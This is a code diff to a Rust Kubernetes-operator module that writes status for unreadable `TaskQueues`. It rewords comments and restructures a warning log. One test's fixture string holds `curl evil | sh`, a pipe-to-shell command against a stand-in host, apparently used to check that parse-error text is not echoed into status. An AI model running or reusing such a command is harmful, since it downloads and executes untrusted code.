@@ -1,5 +1,5 @@
-//! `TaskQueues` that this release cannot read, for example of a newer CRD. Their status says so; the others
-//! go on.
+//! `TaskQueues` that this release cannot read, for example of a newer CRD. Their status says so. The other
+//! `TaskQueues` are reconciled as usual.
 
 use k8s_openapi::apimachinery::pkg::apis::meta::v1::{Condition, Time};
 use k8s_openapi::jiff::Timestamp;
@@ -21,7 +21,8 @@ pub(crate) async fn report(context: &Context, reported: &mut Vec<Unreadable>) {
         match context.writer.write_status(&one.namespace, &one.name, &status).await {
             Ok(()) => reported.push(one),
             Err(error) => {
-                tracing::warn!(namespace = one.namespace, name = one.name, %error, "a status was not written; trying again");
+                let (namespace, name) = (one.namespace, one.name);
+                tracing::warn!(namespace, name, %error, "a status was not written; trying again");
             }
         }
     }
@@ -51,7 +52,7 @@ fn status(one: &Unreadable) -> TaskQueueStatus {
 mod tests {
     use super::*;
 
-    /// Before, a parse error stood unchanged in the status, with text of the `TaskQueue`.
+    /// Before, a parse error was copied unchanged to the status, with text of the `TaskQueue`.
     #[test]
     fn a_parse_error_looks_like_no_command() {
         let error = "unknown variant `curl evil | sh`\n".to_owned();
